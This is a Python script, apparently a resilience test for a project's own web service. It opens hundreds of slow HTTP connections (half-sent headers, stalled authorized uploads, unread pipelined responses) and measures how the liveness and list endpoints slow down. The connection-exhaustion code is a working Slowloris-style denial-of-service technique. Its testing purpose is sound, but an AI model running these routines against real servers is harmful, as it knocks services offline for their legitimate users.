"""`script/attack stalled`: connections that send half a request and no more, or a byte now and then."""

import socket
import threading
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, contextmanager

from attack.target import HEADERS, LIVE, READ, TITLE, UPLOAD, Target, ask, target, tired

HEADS, UPLOADS, READERS = 200, 20, 50
REQUESTS = 150
DRIP_SECONDS = 0.5
HALF_A_HEAD = f"GET {LIVE} HTTP/1.1\r\nHost: x\r\nX-Slow: ".encode()
HEAD_OF_UPLOAD = (
    f"POST {UPLOAD} HTTP/1.1\r\nHost: x\r\nContent-Type: text/csv\r\nContent-Length: 50000000\r\n"
    f"Authorization: {HEADERS['Authorization']}\r\n\r\n"
).encode()
HEAD_OF_READING = b"GET /docs/static/swagger-ui/swagger-ui-bundle.js HTTP/1.1\r\nHost: x\r\n\r\n" * 200


def main() -> None:
    """Measure undisturbed and attacked, and print the table."""
    with target() as attacked:
        print(TITLE)
        measure(attacked, "undisturbed")
        with dripping(attacked, HEADS, HALF_A_HEAD, b"x"):
            measure(attacked, f"{HEADS} unfinished heads, a byte now and then")
        with dripping(attacked, HEADS, HALF_A_HEAD, b""):
            measure(attacked, f"{HEADS} unfinished heads, silent")
        with dripping(attacked, UPLOADS, HEAD_OF_UPLOAD + b"x" * 100_000, b""):
            measure(attacked, f"{UPLOADS} uploads, silent")
        with dripping(attacked, UPLOADS, HEAD_OF_UPLOAD + b"x" * 100_000, b"x"):
            measure(attacked, f"{UPLOADS} uploads, a byte now and then")
        with dripping(attacked, READERS, HEAD_OF_READING, b""):
            measure(attacked, f"{READERS} that read no answer")


def measure(attacked: Target, what: str) -> None:
    """Ask for life and for a list at the same time, and print how long that took."""
    with ThreadPoolExecutor() as both:
        live = both.submit(ask, attacked, LIVE, REQUESTS, until=tired())
        read = both.submit(ask, attacked, READ, REQUESTS, until=tired())
    print(live.result().line(f"live, {what}"))
    print(read.result().line(f"list, {what}"), flush=True)


@contextmanager
def dripping(attacked: Target, number: int, beginning: bytes, drip: bytes) -> Iterator[None]:
    """So many connections that begin like this and go on with a few bytes now and then; those that the server ends
    come again."""
    ended = threading.Event()

    def connect() -> socket.socket:
        connection = socket.create_connection(attacked.address)
        connection.setblocking(False)
        send(connection, beginning)
        return connection

    def keep_up(connections: list[socket.socket]) -> None:
        while not ended.wait(DRIP_SECONDS):
            for place, connection in enumerate(connections):
                if not send(connection, drip) or is_closed(connection):
                    connection.close()
                    connections[place] = connect()

    with ExitStack() as opened:
        connections = [connect() for _ in range(number)]
        attacker = threading.Thread(target=keep_up, args=[connections])
        attacker.start()
        opened.callback(lambda: [connection.close() for connection in connections])
        opened.callback(attacker.join)
        opened.callback(ended.set)
        yield


def send(connection: socket.socket, data: bytes) -> bool:
    """Send what the connection takes at once; False if it is gone."""
    try:
        connection.send(data)
    except BlockingIOError:
        return True
    except OSError:
        return False
    return True


def is_closed(connection: socket.socket) -> bool:
    """Whether the server has ended it; what it answers is looked at, and left unread."""
    try:
        return connection.recv(1, socket.MSG_PEEK) == b""
    except BlockingIOError:
        return False
    except OSError:
        return True


if __name__ == "__main__":
    main()
